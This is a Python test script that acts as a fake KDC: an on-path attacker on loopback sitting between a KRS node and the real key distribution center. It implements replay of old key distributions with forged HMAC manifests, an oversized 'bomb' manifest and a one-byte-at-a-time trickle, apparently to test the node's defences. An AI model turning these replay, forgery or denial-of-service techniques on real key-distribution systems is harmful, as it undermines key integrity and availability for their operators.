#!/usr/bin/env python3
"""
fake_kdc.py — an on-path attacker between one KRS node and the real KDC (Tests/attack/run.sh).

The node's kdc_address points here. Every message is forwarded to the real KDC (--upstream),
from the client's own IP (loopback allows any 127/8 source, so the KDC still sees the node's
address on confirmations), and every CHUNK answer that passes is kept in memory, as an on-path
attacker would keep it. What the attacker does instead of forwarding is chosen in the JSON
--control file (re-read whenever it changes):

  {"attack": "none"}                      forward everything (the default)
  {"attack": "rewrap", "after_id": HEX, "source_id": HEX, "node": FQDN, "zone": CZ,
   "hmac_key": HEX, "variants": ["hmac", "verbatim"]}
      For a CHUNK query of a distribution numerically above after_id (a "carrier": the KDC's
      next real distribution, announced to the node by the KDC itself), answer with the old
      distribution source_id instead: harvested from the real KDC at that moment (a CHUNK
      query from this proxy's own address, "anyone"), else the copy kept while forwarding.
      The n-th fetch of a carrier gets variants[n] (the last variant once they run out):
        hmac      a Format 1 manifest with distribution_id = the carrier, timestamp = now,
                  the old metadata otherwise (from Format 1 JSON, or from the claims of a
                  Format 2 JWT), the old transport blob, HMAC-SHA256 keyed with the node's
                  *public* key (hmac_key) — everything an attacker can compute;
        verbatim  the old manifest record unchanged;
        forward   the carrier itself, untouched.
      Data chunk queries of the carrier are answered with the old data chunks.
  {"attack": "bomb", "after_id": HEX, "node": FQDN, "zone": CZ, "hmac_key": HEX,
   "chunks": 20000, "chunk_size": 60000}
      For a carrier: a Format 1 manifest (valid HMAC keyed with the node's public key)
      announcing `chunks` data chunks of `chunk_size` bytes; every data chunk query answered
      with chunk_size bytes.
  {"attack": "trickle", "after_id": HEX, "on": "data1"|"all", "interval": 1.0, "until": UNIX}
      ("only_id": HEX instead of after_id: that one distribution is the carrier, no other)
      For a carrier, over TCP: the real KDC's answer sent one byte per `interval` seconds
      (to data chunk 1 only, or to every CHUNK query of it), until the node closes the
      connection or, when `until` is set, until that time (then the rest at once, and
      forwarding as normal afterwards).

--events FILE gets one JSON line per message and per attack step (time, transport, kind, id,
seq, action, and for trickles how long the node kept the connection). No key material and no
payload is logged. Stops on SIGTERM/SIGINT.
"""
import argparse
import base64
import hashlib
import hmac
import json
import os
import signal
import socket
import struct
import sys
import threading
import time

CHUNK_TYPES = (65288, 65015)
OP_QUERY, OP_NOTIFY = 0, 4


def hostport(text):
    host, _, port = text.rpartition(":")
    if not host.startswith("127."):
        raise argparse.ArgumentTypeError(f"{text}: 127.0.0.0/8 only")
    return host, int(port)


# --- wire helpers (no DNS library trusted with attacker-chosen bytes) -------------------------

def read_name(b, off):
    """(labels, offset after the name) for an uncompressed name; raises ValueError."""
    labels = []
    while True:
        if off >= len(b):
            raise ValueError("name runs past the end")
        n = b[off]
        if n == 0:
            return labels, off + 1
        if n & 0xC0:
            raise ValueError("compressed name in a question")
        labels.append(b[off + 1:off + 1 + n].decode("ascii", "replace").lower())
        off += 1 + n


def parse_query(wire):
    """dict(id, qr, opcode, rcode, labels, qtype, qend) or None."""
    if len(wire) < 12:
        return None
    qid, flags, qd = struct.unpack(">HHH", wire[:6])
    info = {"id": qid, "qr": bool(flags & 0x8000), "opcode": (flags >> 11) & 0xF, "rcode": flags & 0xF,
            "flags": flags, "labels": None, "qtype": None, "qend": 12}
    if qd < 1:
        return info
    try:
        labels, off = read_name(wire, 12)
    except ValueError:
        return info
    if off + 4 > len(wire):
        return info
    info["labels"] = labels
    info["qtype"] = struct.unpack(">H", wire[off:off + 2])[0]
    info["qend"] = off + 4
    return info


def classify(info, zone_labels):
    """(kind, distribution id, sequence, node labels): manifest, data, notify, other."""
    if info is None or info["labels"] is None:
        return "garbage", None, None, None
    labels = info["labels"]
    if info["opcode"] == OP_NOTIFY:
        rel = labels[:-len(zone_labels)] if zone_labels and labels[-len(zone_labels):] == zone_labels else None
        return "notify", (rel[-1] if rel else None), None, None
    if info["qtype"] not in CHUNK_TYPES or not zone_labels or labels[-len(zone_labels):] != zone_labels:
        return "other", None, None, None
    rel = labels[:-len(zone_labels)]
    if len(rel) < 2:
        return "other", None, None, None
    seq = 0
    if rel[0].isdigit():
        seq = int(rel[0])
        rel = rel[1:]
    if len(rel) < 2:
        return "other", None, None, None
    return ("data" if seq > 0 else "manifest"), rel[-1], seq, rel[:-1]


def chunk_rdata(fmt, hmac_bytes, seq, total, data):
    return struct.pack(">BH", fmt, len(hmac_bytes)) + hmac_bytes + struct.pack(">HHH", seq, total, len(data)) + data


def parse_chunk_rdata(r):
    fmt, hl = struct.unpack(">BH", r[:3])
    h = r[3:3 + hl]
    seq, total, dl = struct.unpack(">HHH", r[3 + hl:9 + hl])
    return {"format": fmt, "hmac": h, "seq": seq, "total": total, "data": r[9 + hl:9 + hl + dl]}


def answer_with(query, info, rdata, rcode=0):
    """A response to `query` holding one CHUNK RR (owner = QNAME by pointer), or none."""
    flags = 0x8000 | (OP_QUERY << 11) | 0x0400 | (info["flags"] & 0x0100) | rcode
    head = struct.pack(">HHHHHH", info["id"], flags, 1, 1 if rdata is not None else 0, 0, 0)
    out = head + query[12:info["qend"]]
    if rdata is not None:
        out += b"\xc0\x0c" + struct.pack(">HHIH", info["qtype"], 1, 300, len(rdata)) + rdata
    return out


def chunk_answer_rdata(wire):
    """The CHUNK RDATA of an answer, or None (errors, no CHUNK)."""
    info = parse_query(wire)
    if info is None or info["labels"] is None or info["rcode"] != 0:
        return None
    an = struct.unpack(">H", wire[6:8])[0]
    off = info["qend"]
    for _ in range(an):
        # owner: a pointer or a name
        if off < len(wire) and wire[off] & 0xC0 == 0xC0:
            off += 2
        else:
            _, off = read_name(wire, off)
        t, _c, _ttl, rdlen = struct.unpack(">HHIH", wire[off:off + 10])
        off += 10
        if t in CHUNK_TYPES:
            return wire[off:off + rdlen]
        off += rdlen
    return None


def b64url_decode(s):
    return base64.urlsafe_b64decode(s + "=" * (-len(s) % 4))


def recv_exact(sock, n):
    buf = b""
    while len(buf) < n:
        part = sock.recv(n - len(buf))
        if not part:
            return None
        buf += part
    return buf


def read_framed(sock):
    head = recv_exact(sock, 2)
    if head is None:
        return None
    return recv_exact(sock, struct.unpack(">H", head)[0])


def query_wire(qid, name, qtype):
    out = struct.pack(">HHHHHH", qid, 0, 1, 0, 0, 0)
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00" + struct.pack(">HH", qtype, 1)


# --- the attacker -----------------------------------------------------------------------------

class FakeKDC:
    def __init__(self, args):
        self.args = args
        self.listen = args.listen
        self.upstream = args.upstream
        self.zone_labels = [l for l in args.zone.lower().rstrip(".").split(".") if l]
        self.lock = threading.Lock()
        self.control_path = args.control
        self.control_sig = None
        self.control = {"attack": "none"}
        self.events = open(args.events, "a", buffering=1) if args.events else None
        self.captured = {}       # distribution id -> {seq: rdata}, from forwarded answers
        self.harvests = {}       # source id -> (records, how)
        self.carrier_fetches = {}  # carrier id -> manifest fetches answered by the attack
        self.stop = threading.Event()

    def log(self, record):
        if self.events:
            with self.lock:
                self.events.write(json.dumps({"t": round(time.time(), 6), **record}) + "\n")

    def settings(self):
        if not self.control_path:
            return self.control
        with self.lock:
            try:
                st = os.stat(self.control_path)
                sig = (st.st_mtime_ns, st.st_size, st.st_ino)
            except FileNotFoundError:
                sig = None
            if sig != self.control_sig:
                self.control_sig = sig
                try:
                    with open(self.control_path) as f:
                        self.control = json.loads(f.read() or "{}") or {"attack": "none"}
                except (OSError, ValueError):
                    self.control = {"attack": "none"}
                self.carrier_fetches = {}
                changed = True
            else:
                changed = False
            c = self.control
        if changed:
            self.log({"event": "control", "attack": c.get("attack", "none")})
        return c

    def is_carrier(self, c, did):
        if c.get("attack", "none") == "none" or did is None:
            return False
        try:
            if c.get("only_id"):
                return did == c["only_id"]
            return int(did, 16) > int(c.get("after_id", "0"), 16)
        except ValueError:
            return False

    # --- upstream ---------------------------------------------------------------------------

    def upstream_udp(self, wire, src_ip):
        up = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try:
            try:
                up.bind((src_ip, 0))
            except OSError:
                up.bind((self.listen[0], 0))
            up.settimeout(self.args.upstream_timeout)
            up.sendto(wire, self.upstream)
            return up.recvfrom(65535)[0]
        finally:
            up.close()

    def harvest(self, c, carrier_id):
        """The old distribution's records {seq: rdata}: asked of the real KDC like anyone may,
        else what was captured while forwarding."""
        src = c["source_id"]
        if src in self.harvests:
            return self.harvests[src]
        node = c["node"].rstrip(".") + "."
        zone = c["zone"].rstrip(".") + "."
        records, how = {}, None
        try:
            s = socket.create_connection(self.upstream, timeout=5)
            try:
                def ask(seq):
                    name = (f"{seq}." if seq else "") + f"{node}{src}.{zone}"
                    q = query_wire(0x4000 + seq, name, 65288)
                    s.sendall(struct.pack(">H", len(q)) + q)
                    return chunk_answer_rdata(read_framed(s) or b"")
                m = ask(0)
                if m is not None:
                    records[0] = m
                    total = parse_chunk_rdata(m)["total"]
                    for seq in range(1, total + 1):
                        r = ask(seq)
                        if r is None:
                            break
                        records[seq] = r
                    if len(records) == total + 1:
                        how = "from-kdc"
            finally:
                s.close()
        except (OSError, ValueError, struct.error):
            pass
        if how is None:
            cap = self.captured.get(src, {})
            if 0 in cap and all(i in cap for i in range(1, parse_chunk_rdata(cap[0])["total"] + 1)):
                records, how = dict(cap), "captured"
        self.log({"event": "harvest", "source_id": src, "carrier": carrier_id, "how": how or "failed",
                  "records": len(records)})
        if how is None:
            return None
        self.harvests[src] = (records, how)
        return self.harvests[src]

    # --- forged answers ---------------------------------------------------------------------

    @staticmethod
    def format1_manifest(old_manifest, carrier_id, now, hmac_key):
        """The old manifest as a Format 1 manifest for the carrier, with a valid HMAC."""
        m = parse_chunk_rdata(old_manifest)
        if m["format"] == 1:
            doc = json.loads(m["data"])
            doc["metadata"]["distribution_id"] = carrier_id
            doc["metadata"]["timestamp"] = now
        else:
            parts = m["data"].split(b".")
            claims = json.loads(b64url_decode(parts[1].decode()))
            meta = {k: claims[k] for k in ("content", "crypto", "distribution_ttl", "retire_time", "key_count",
                                           "operation_count", "zone_count") if k in claims}
            meta.update({"distribution_id": carrier_id, "node_id": claims.get("receiver_id") or claims.get("node_id"),
                         "timestamp": now})
            doc = {"chunk_count": claims.get("chunk_count", 0), "metadata": dict(sorted(meta.items()))}
            if claims.get("chunk_size"):
                doc["chunk_size"] = claims["chunk_size"]
            if claims.get("payload"):
                doc["payload"] = claims["payload"]
            doc = dict(sorted(doc.items()))
        data = json.dumps(doc, separators=(",", ":")).encode()
        mac = hmac.new(hmac_key, b"\x01" + data, hashlib.sha256).digest()
        return chunk_rdata(1, mac, 0, m["total"], data)

    def rewrap_answer(self, c, query, info, did, seq):
        h = self.harvest(c, did)
        if h is None:
            return None, "harvest-failed"
        records, how = h
        if seq == 0:
            with self.lock:
                n = self.carrier_fetches.get(did, 0)
                self.carrier_fetches[did] = n + 1
            variants = c.get("variants") or ["hmac"]
            variant = variants[min(n, len(variants) - 1)]
            if variant == "forward":
                return None, "forward"
            if variant == "verbatim":
                rdata = records[0]
            else:
                rdata = self.format1_manifest(records[0], did, int(time.time()), bytes.fromhex(c["hmac_key"]))
            self.log({"event": "rewrap-served", "carrier": did, "source_id": c["source_id"], "variant": variant,
                      "harvest": how, "fetch": n + 1})
            return answer_with(query, info, rdata), f"rewrap-{variant}"
        if seq in records:
            return answer_with(query, info, records[seq]), "rewrap-data"
        return answer_with(query, info, None, rcode=3), "rewrap-nxdomain"

    def bomb_answer(self, c, query, info, did, seq):
        chunks, size = int(c.get("chunks", 20000)), int(c.get("chunk_size", 60000))
        if seq == 0:
            meta = {"content": "key_operations", "crypto": c.get("crypto", "hpke"), "distribution_id": did,
                    "distribution_ttl": "5m0s", "key_count": 1, "node_id": c["node"], "operation_count": 1,
                    "timestamp": int(time.time()), "zone_count": 1}
            data = json.dumps({"chunk_count": chunks, "chunk_size": size, "metadata": meta}, separators=(",", ":")).encode()
            mac = hmac.new(bytes.fromhex(c["hmac_key"]), b"\x01" + data, hashlib.sha256).digest()
            self.log({"event": "bomb-manifest", "carrier": did, "chunks": chunks, "chunk_size": size})
            return answer_with(query, info, chunk_rdata(1, mac, 0, chunks, data)), "bomb-manifest"
        body = (b"QUFB" * (size // 4 + 1))[:size]
        return answer_with(query, info, chunk_rdata(1, b"", seq, chunks, body)), "bomb-data"

    # --- UDP --------------------------------------------------------------------------------

    def udp_loop(self, sock):
        while not self.stop.is_set():
            try:
                wire, peer = sock.recvfrom(65535)
            except OSError:
                return
            threading.Thread(target=self.udp_one, args=(sock, wire, peer), daemon=True).start()

    def udp_one(self, sock, wire, peer):
        info = parse_query(wire)
        kind, did, seq, _ = classify(info, self.zone_labels)
        ev = {"transport": "udp", "peer": peer[0], "kind": kind, "id": did, "seq": seq, "action": "forward"}
        c = self.settings()
        out = None
        if kind in ("manifest", "data") and self.is_carrier(c, did) and c["attack"] in ("rewrap", "bomb"):
            out, ev["action"] = (self.rewrap_answer if c["attack"] == "rewrap" else self.bomb_answer)(c, wire, info, did, seq)
        if out is None:
            try:
                out = self.upstream_udp(wire, peer[0])
            except OSError as e:
                ev.update(action="upstream-error", error=str(e)[:120])
                self.log(ev)
                return
            self.capture(kind, did, seq, out)
        try:
            sock.sendto(out, peer)
        except OSError:
            pass
        self.log(ev)

    def capture(self, kind, did, seq, answer):
        if kind in ("manifest", "data") and did:
            r = chunk_answer_rdata(answer)
            if r is not None:
                with self.lock:
                    self.captured.setdefault(did, {})[seq] = r

    # --- TCP --------------------------------------------------------------------------------

    def tcp_loop(self, lsock):
        while not self.stop.is_set():
            try:
                conn, peer = lsock.accept()
            except OSError:
                return
            threading.Thread(target=self.tcp_conn, args=(conn, peer), daemon=True).start()

    def trickle(self, conn, framed, c, ev):
        """Sends `framed` one byte per interval. True if the connection is still usable."""
        interval = float(c.get("interval", 1.0))
        until = c.get("until")
        t0 = time.time()
        self.log({**ev, "event": "trickle-start", "bytes": len(framed)})
        sent, how = 0, "done"
        while sent < len(framed):
            if self.stop.is_set():
                how = "stopped"
                break
            if until is not None and time.time() >= float(until):
                try:
                    conn.sendall(framed[sent:])
                    sent = len(framed)
                    how = "window-ended"
                except OSError:
                    how = "node-closed"
                break
            try:
                conn.send(framed[sent:sent + 1])
                sent += 1
            except OSError:
                how = "node-closed"
                break
            # The node's close shows as a reset on the next send, or as EOF when it has not
            # pipelined more queries on this connection (then there is nothing else to read).
            end = time.time() + interval
            while time.time() < end and not self.stop.is_set():
                time.sleep(min(0.05, max(0.0, end - time.time())))
            try:
                peek = conn.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
                if peek == b"":
                    how = "node-closed"
                    break
            except BlockingIOError:
                pass
            except OSError:
                how = "node-closed"
                break
        self.log({**ev, "event": "trickle-end", "how": how, "seconds": round(time.time() - t0, 3),
                  "sent": sent, "bytes": len(framed)})
        return how in ("done", "window-ended")

    def tcp_conn(self, conn, peer):
        up = None
        try:
            while not self.stop.is_set():
                try:
                    wire = read_framed(conn)
                except OSError:
                    return
                if wire is None:
                    return
                info = parse_query(wire)
                kind, did, seq, _ = classify(info, self.zone_labels)
                ev = {"transport": "tcp", "peer": peer[0], "kind": kind, "id": did, "seq": seq, "action": "forward"}
                c = self.settings()
                attack = c.get("attack", "none") if kind in ("manifest", "data") and self.is_carrier(c, did) else "none"
                out = None
                if attack in ("rewrap", "bomb"):
                    out, ev["action"] = (self.rewrap_answer if attack == "rewrap" else self.bomb_answer)(c, wire, info, did, seq)
                if out is None:
                    try:
                        if up is None:
                            up = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                            try:
                                up.bind((peer[0], 0))
                            except OSError:
                                up.bind((self.listen[0], 0))
                            up.settimeout(self.args.upstream_timeout)
                            up.connect(self.upstream)
                        up.sendall(struct.pack(">H", len(wire)) + wire)
                        out = read_framed(up)
                        if out is None:
                            raise ConnectionError("upstream closed the connection")
                    except OSError as e:
                        ev.update(action="upstream-error", error=str(e)[:120])
                        self.log(ev)
                        return
                    self.capture(kind, did, seq, out)
                framed = struct.pack(">H", len(out)) + out
                if attack == "trickle" and (c.get("on", "data1") == "all" or seq == 1) and \
                        (c.get("until") is None or time.time() < float(c["until"])):
                    ev["action"] = "trickle"
                    self.log(ev)
                    if not self.trickle(conn, framed, c, ev):
                        return
                    continue
                conn.sendall(framed)
                self.log(ev)
        except OSError:
            return
        finally:
            if up is not None:
                up.close()
            try:
                conn.close()
            except OSError:
                pass

    def run(self):
        usock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        usock.bind(self.listen)
        tsock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tsock.bind(self.listen)
        tsock.listen(128)

        def stop(*_):
            self.stop.set()
            for s in (usock, tsock):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass
                s.close()

        signal.signal(signal.SIGTERM, stop)
        signal.signal(signal.SIGINT, stop)
        for target, s in ((self.udp_loop, usock), (self.tcp_loop, tsock)):
            threading.Thread(target=target, args=(s,), daemon=True).start()
        self.log({"event": "listening", "listen": f"{self.listen[0]}:{self.listen[1]}"})
        print(f"listening {self.listen[0]}:{self.listen[1]}", flush=True)
        while not self.stop.is_set():
            self.stop.wait(0.2)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--listen", type=hostport, required=True)
    p.add_argument("--upstream", type=hostport, required=True)
    p.add_argument("--zone", required=True, help="the control zone")
    p.add_argument("--control", help="JSON file with the attack, re-read when it changes")
    p.add_argument("--events", help="append one JSON line per message here")
    p.add_argument("--upstream-timeout", type=float, default=10.0)
    FakeKDC(p.parse_args()).run()


if __name__ == "__main__":
    sys.exit(main())
